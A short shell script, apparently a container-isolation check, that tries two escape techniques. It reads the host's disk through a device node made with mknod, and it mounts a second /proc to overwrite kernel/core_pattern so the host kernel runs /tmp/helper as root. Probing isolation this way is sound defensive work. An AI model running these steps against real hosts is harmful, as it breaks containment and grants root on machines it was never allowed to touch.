#!/bin/sh
# What an intruder tries first: find a disk of the host and read from it.
grep CapEff /proc/self/status
grep Seccomp: /proc/self/status
disk=/dev/sda
if [ ! -b "$disk" ]; then
  disk=/tmp/disk
  mknod "$disk" b 8 0
fi
if head -n 1 "$disk"; then
  echo "read the first sector of the host's disk"
  exit 0
fi
# And then: a second /proc, where the host's kernel can be told which program it starts as root after a crash.
mkdir -p /tmp/proc
if mount -t proc proc /tmp/proc && echo '|/tmp/helper' >/tmp/proc/sys/kernel/core_pattern; then
  echo "the host's kernel would start a program of ours"
  exit 0
fi
echo "no disk to be had"
exit 1
